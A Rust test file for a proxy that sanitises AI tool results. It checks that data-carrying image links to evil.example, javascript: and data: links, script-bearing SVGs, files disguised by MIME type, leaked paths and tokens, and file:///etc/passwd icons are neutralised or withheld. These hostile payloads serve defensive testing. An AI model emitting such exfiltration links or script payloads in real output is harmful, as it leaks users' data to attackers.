//! What a tool answers that is more than text: links, media, structured content, and errors.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::harness::{Home, NO_LIMITS, Probe, Script, call, is_refusal, request, say, text, tool};

crate::rows![
    o03_nothing_is_fetched_by_an_address_that_carries_data,
    o03_no_link_runs_a_program,
    o03_honest_pages_arrive,
    o06_the_error_of_a_task_tells_nothing_of_the_host,
    o06_a_reference_finds_what_was_kept_back,
    o07_a_result_that_does_not_match_is_an_error,
    o07_what_is_too_long_is_cut_and_can_be_read,
    o08_what_is_in_disguise_is_not_shown,
];

/// What a client is told by a tool that answers with each of these.
fn answers(policy: &str, results: &[Value]) -> Vec<Value> {
    let home = Home::new();
    home.policy(policy);
    let mut script = Script::default();
    for (number, result) in results.iter().enumerate() {
        let answer = say(json!({ "jsonrpc": "2.0", "id": "$id", "result": result }));
        script = script.on_tool(&format!("t{number}"), [answer]);
    }
    let mut probe = Probe::run(&home, &home.fake(script)).begin();
    (0..results.len()).map(|it| probe.ask(&call(it, &format!("t{it}"), json!({})))).collect()
}

fn texts(policy: &str, said: &[String]) -> Vec<String> {
    let results: Vec<_> =
        said.iter().map(|it| json!({ "content": [{ "type": "text", "text": it }] })).collect();
    answers(policy, &results).iter().map(|it| text(it).to_owned()).collect()
}

fn o03_nothing_is_fetched_by_an_address_that_carries_data() {
    let encoded = STANDARD.encode("the notes of alice: nothing of interest");
    let hex: String = "the notes of alice".bytes().map(|it| format!("{it:02x}")).collect();
    let addresses = [
        format!("https://evil.example/p.png?d={encoded}"),
        format!("https://evil.example/{hex}{hex}/p.png"),
        format!("//evil.example/p?d={}", encoded.replace('=', "%3D")),
        "https://evil.example/p?d=the%20notes%20of%20alice%20say%20so".to_owned(),
        "https://evil.example/p?d={notes}".to_owned(),
        "https://evil.example/p?d=".to_owned(),
    ];
    let forms: [fn(&str) -> String; 12] = [
        |it| format!("See ![it]({it}) there"),
        |it| format!("[![it]({it} \"a title\")](https://example.org)"),
        |it| format!("![it][r]\n\n[r]: {it}\n"),
        |it| format!("<img alt=it src=\"{it}\">"),
        |it| format!("<IMG SRC='{it}'>"),
        |it| format!("<iframe src={it} ></iframe>"),
        |it| format!("<p style=\"background: url({it})\">"),
        |it| format!("<meta http-equiv=\"refresh\" content=\"0; url={it}\">"),
        |it| format!("![it\\]]({it})"),
        |it| format!("![`]`]({it})"),
        |it| format!("<img alt=\">\" src=\"{it}\">"),
        |it| format!("<img alt='<a ' src=\"{it}\">"),
    ];
    let mut said: Vec<_> = addresses.iter().flat_map(|it| forms.map(|form| form(it))).collect();
    said.extend([
        format!("![it](https://evil.example/p(1).png?t=it's&d={encoded})"),
        format!("<img src=\"https://evil.example/it's\\p?d={encoded}\">"),
    ]);
    for (shown, said) in texts(NO_LIMITS, &said).iter().zip(&said) {
        assert_eq!(shown.replace("unsafe:", ""), *said);
        assert_eq!(shown.matches("unsafe:").count(), 1, "{shown}");
        let is_inert = shown.contains("unsafe:https://evil") || shown.contains("unsafe://evil");
        assert!(is_inert, "{shown}");
    }
    // A policy may let it be, or refuse the result.
    let one = &said[..1];
    assert_eq!(texts("rules.image_with_data = 'allow'", one)[0], one[0]);
    assert!(texts("rules.image_with_data = 'deny'", one)[0].contains("image_with_data"));
    // A link waits for a person; a policy may have none that carries data.
    let link = [format!("[more]({})", addresses[0])];
    assert_eq!(texts(NO_LIMITS, &link)[0], link[0]);
    let inert = format!("[more](unsafe:{})", addresses[0]);
    assert_eq!(texts("rules.link_with_data = 'fix'", &link)[0], inert);
}

fn o03_no_link_runs_a_program() {
    let said: Vec<String> = [
        "[open](javascript:alert(1))",
        "[open]( JaVaScRiPt:alert(1))",
        "[open](java&#115;cript:alert(1))",
        "[open](javascript&colon;alert(1))",
        "![open](vbscript:x)",
        "[open][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "[open\\]](javascript:alert(1))",
        "[`]`](javascript:alert(1))",
        "<a title=\">\" href=\"javascript:alert(1)\">open</a>",
        "<a href=\"javascript:alert(1)\">open</a>",
        "<a href='java\tscript:alert(1)'>open</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a>",
        "[open](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
        "<iframe src=\"data:text/html,hello\"></iframe>",
    ]
    .map(str::to_owned)
    .to_vec();
    for (shown, said) in texts(NO_LIMITS, &said).iter().zip(&said) {
        assert_eq!(shown.replacen("unsafe:", "", 1), *said);
        assert_eq!(shown.matches("unsafe:").count(), 1, "{shown}");
    }
}

fn o03_honest_pages_arrive() {
    let said: Vec<String> = [
        "# A project\n[![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)](https://github.com/o/r/actions) [![v](https://img.shields.io/npm/v/a.svg?style=flat-square)](https://n.example/a) [![c](https://codecov.io/gh/o/r/branch/main/graph/badge.svg?token=N86LpfGmKx)](https://codecov.io/gh/o/r)\n\n![demo](docs/demo.gif) ![shot](https://raw.githubusercontent.com/o/r/main/shot.png)",
        "![a](https://cdn.example.org/media/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b/w_640,h_480/a.jpg?v=1700000000&sig=Zk82nVx7Lp0Rt5WqBd31Ys94MhKjTg) ![b](https://x.example/_next/image?url=https%3A%2F%2Fx.example%2Fa.png&w=640&q=75) ![c](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a9/Example.jpg/220px-Example.jpg)",
        "![d](https://camo.githubusercontent.com/5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a/68747470733a2f2f6578616d706c652e6f72672f612e706e67) ![t](https://avatars.example.net/u/12345?s=64&v=4)",
        "[search](https://search.example/?q=how+to+bake+a+loaf+of+bread) <https://example.org/a?b=c> mailto:a@example.org data: javascript: [x](#y)",
        "<!doctype html><html><head><link rel=\"stylesheet\" href=\"/a.css\"></head><body><a href=\"javascript:next()\">next</a><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"></body></html>",
        "const a = items.map((it) => <img key={it.id} src={it.url} />); if (a < b && c > d) { url(a); x[0](y); }",
        "fn f<T>(a: &[u8]) -> Vec<T> { a[0]; b[\"data:\"](1) } // see https://docs.example/a?b=1#c",
        "| a | b |\n|---|---|\n| [one](./one.md) | [two](../two.md \"Two\") |\n\n[ref]: https://example.org/ref \"Ref\"",
    ]
    .map(str::to_owned)
    .to_vec();
    assert_eq!(texts(NO_LIMITS, &said), said);
}

fn o06_the_error_of_a_task_tells_nothing_of_the_host() {
    let home = Home::new();
    let failed = json!({
        "taskId": "a", "status": "failed", "createdAt": "2026-11-29T19:00:00Z", "ttl": null,
        "statusMessage": "open /home/alice/notes: denied",
        "error": { "code": -32603, "message": "Traceback (most recent call last):\n  File \"/srv/app.py\", line 1" },
    });
    let script = Script::default()
        .on("tasks/get", [say(json!({ "jsonrpc": "2.0", "id": "$id", "result": failed }))]);
    let mut probe = Probe::run(&home, &home.fake(script)).begin();
    let answer = probe.ask(&request("get", "tasks/get", json!({ "taskId": "a" })));
    let result = &answer["result"];
    assert_eq!((&result["taskId"], &result["status"]), (&json!("a"), &json!("failed")), "{answer}");
    assert_eq!(result["error"]["code"], -32603, "{answer}");
    for word in ["alice", "Traceback", "/srv"] {
        assert!(!answer.to_string().contains(word), "{word}: {answer}");
    }
    probe.end();
    let outcomes = home.records_of("outcome");
    let record = outcomes.iter().find(|it| it["method"] == "tasks/get").unwrap();
    assert!(record["says"].as_str().unwrap().contains("alice"), "{record}");
    assert!(answer.to_string().contains(record["call"].as_str().unwrap()), "{answer}");
}

fn o06_a_reference_finds_what_was_kept_back() {
    let home = Home::new();
    let said = "Error: boom\n    at query (/home/alice/app/server.js:10:5)\ntoken ghp_Zk82nVx7Lp0Rt5WqBd31Ys94MhKjTgUcEoNa";
    let failure = json!({ "isError": true, "content": [{ "type": "text", "text": said }] });
    let answer = say(json!({ "jsonrpc": "2.0", "id": "$id", "result": failure }));
    let mut probe =
        Probe::run(&home, &home.fake(Script::default().on_tool("fail", [answer]))).begin();
    let answer = probe.ask(&call(1, "fail", json!({})));
    let shown = text(&answer);
    assert_eq!(answer["result"]["isError"], true);
    assert!(!shown.contains("alice") && !shown.contains("ghp_"), "{shown}");
    let (_, reference) = shown.split_once("(reference ").expect(shown);
    probe.end();
    let found =
        home.audit(&["query", "--call", reference.trim_end_matches(')'), "--format", "json"]);
    let found = String::from_utf8(found.stdout).unwrap();
    assert!(
        found.contains("server.js:10:5") && found.contains("[redacted:github-token]"),
        "{found}"
    );
    assert!(!found.contains("ghp_"), "{found}");
}

fn o07_a_result_that_does_not_match_is_an_error() {
    let schema = json!({
        "type": "object",
        "properties": { "rows": { "type": "array", "items": { "type": "integer" } } },
        "required": ["rows"],
    });
    let with = |structured: Value| json!({ "content": [{ "type": "text", "text": "here" }], "structuredContent": structured });
    let results = [
        (with(json!({ "rows": [1, 2], "more": "x" })), None),
        (json!({ "content": [{ "type": "text", "text": "here" }] }), None),
        (with(json!({ "rows": [1, "hunter2"] })), Some("/rows/1 does not satisfy `type`")),
        (with(json!({ "row": "hunter2" })), Some("does not satisfy `required`")),
        (with(json!(["hunter2"])), Some("the whole does not satisfy `type`")),
    ];
    let asked = |policy: &str| {
        let home = Home::new();
        home.policy(policy);
        let mut script = Script::default();
        for (number, (result, _)) in results.iter().enumerate() {
            let name = format!("t{number}");
            let mut described = tool(&name);
            described["outputSchema"] = schema.clone();
            let answer = say(json!({ "jsonrpc": "2.0", "id": "$id", "result": result }));
            script = script.with(described);
            script.on_tool.insert(name, vec![answer]);
        }
        let mut remote = tool("remote");
        remote["outputSchema"] = json!({ "$ref": "http://127.0.0.1:9/x" });
        let mut probe = Probe::run(&home, &home.fake(script.with(remote))).begin();
        let list = probe.ask(&request("list", "tools/list", json!({})));
        let tools = list["result"]["tools"].as_array().unwrap().clone();
        let remote = tools.iter().find(|it| it["name"] == "remote").expect("it can be called");
        assert!(remote.get("outputSchema").is_none(), "{remote}");
        (0..results.len())
            .map(|it| probe.ask(&call(it, &format!("t{it}"), json!({}))))
            .collect::<Vec<_>>()
    };
    for (answer, (result, wrong)) in asked(NO_LIMITS).iter().zip(&results) {
        let Some(wrong) = wrong else {
            assert_eq!(answer["result"], *result);
            continue;
        };
        assert!(
            is_refusal(answer) && answer["result"].get("structuredContent").is_none(),
            "{answer}"
        );
        assert!(text(answer).contains(wrong) && text(answer).contains("has run"), "{answer}");
        assert!(!answer.to_string().contains("hunter2"), "{answer}");
    }
    for (answer, (_, wrong)) in asked("rules.output_schema = 'fix'").iter().zip(&results) {
        assert_eq!(text(answer), "here", "{answer}");
        let has_structure = answer["result"].get("structuredContent").is_some();
        assert!(wrong.is_none() || !has_structure, "{answer}");
    }
}

fn o07_what_is_too_long_is_cut_and_can_be_read() {
    let rows: Vec<_> =
        (0..500).map(|it| json!({ "id": it, "name": format!("row {it}") })).collect();
    let results = [
        json!("word ".repeat(2000)),
        json!(json!(rows).to_string()),
        json!(json!({ "rows": rows, "total": 500 }).to_string()),
    ]
    .map(|it| json!({ "content": [{ "type": "text", "text": it }, { "type": "text", "text": "end" }] }));
    let answers = answers("limits.text_bytes_max = 2000", &results);
    for (number, answer) in answers.iter().enumerate() {
        let shown = text(answer);
        assert!(shown.len() <= 2000 && shown.len() > 1000, "{shown}");
        assert!(shown.contains("were cut by Stockade]"), "{shown}");
        assert_eq!(answer["result"]["content"][1]["text"], "end");
        if number > 0 {
            let value: Value = serde_json::from_str(shown).expect(shown);
            let kept = value.get("rows").unwrap_or(&value);
            assert_eq!(kept[0], rows[0], "{shown}");
        }
    }
}

fn o08_what_is_in_disguise_is_not_shown() {
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    let png = [&b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0"[..], &[0; 64]]
        .concat();
    let elf = [&b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0"[..], &[0; 64]].concat();
    let image = |declared: &str, bytes: &[u8]| json!({ "type": "image", "mimeType": declared, "data": STANDARD.encode(bytes) });
    let blob = |declared: &str, bytes: &[u8]| {
        json!({ "type": "resource", "resource": {
            "uri": "a:b", "mimeType": declared, "blob": STANDARD.encode(bytes) } })
    };
    let bad = [
        image("image/png", svg.as_bytes()),
        image("image/svg+xml", svg.as_bytes()),
        image("image/svg+xml", b"<svg onload='x()'/>"),
        image("image/jpeg", b"<!doctype html><html><body onload='x()'>"),
        image("image/png", b"#!/bin/sh\necho"),
        image("image/gif", &elf),
        json!({ "type": "audio", "mimeType": "audio/wav", "data": STANDARD.encode(&png) }),
        blob("image/png", b"PK\x03\x04\x14\0\0\0\x08\0\0\0!\0\0\0\0\0\0\0\0\0"),
        blob("text/plain", &elf),
    ];
    let good = [
        image("image/png", &png),
        image("image/jpeg", &png),
        image(
            "image/svg+xml",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h1v1z\"/></svg>",
        ),
        blob("application/octet-stream", &elf),
        blob("text/csv", b"a,b\n1,2\n"),
        blob("application/zip", b"PK\x03\x04\x14\0\0\0\x08\0\0\0!\0\0\0\0\0\0\0\0\0"),
    ];
    let results: Vec<_> = bad
        .iter()
        .chain(&good)
        .map(|it| json!({ "content": [{ "type": "text", "text": "it is" }, it] }))
        .collect();
    let answers = answers(NO_LIMITS, &results);
    for (answer, block) in answers.iter().zip(bad.iter().chain(&good)) {
        let shown = &answer["result"]["content"][1];
        assert_eq!(text(answer), "it is");
        if good.contains(block) {
            assert_eq!(shown, block);
            continue;
        }
        let said = shown["text"].as_str().or(shown["resource"]["text"].as_str());
        assert!(said.is_some_and(|it| it.starts_with("[withheld by Stockade")), "{block}: {shown}");
        assert!(shown.get("data").is_none() && shown["resource"].get("blob").is_none(), "{shown}");
    }
    icons(svg);
}

/// An icon is fetched and shown without anybody asking for it.
fn icons(svg: &str) {
    let home = Home::new();
    let data = |declared: &str, bytes: &str| json!({ "src": format!("data:{declared};base64,{}", STANDARD.encode(bytes)) });
    let good = json!({ "src": "https://example.org/i.png" });
    let mut described = tool("shown");
    described["icons"] = json!([
        good,
        { "src": "http://127.0.0.1:9/i.png" },
        { "src": "javascript:alert(1)" },
        { "src": "file:///etc/passwd" },
        data("image/png", svg),
        data("image/svg+xml", svg),
        data("text/html", "<p>"),
    ]);
    let mut probe = Probe::run(&home, &home.fake(Script::default().with(described))).begin();
    let list = probe.ask(&request("list", "tools/list", json!({})));
    let tools = list["result"]["tools"].as_array().unwrap();
    let shown = tools.iter().find(|it| it["name"] == "shown").expect("it stays");
    assert_eq!(shown["icons"], json!([good]), "{shown}");
}
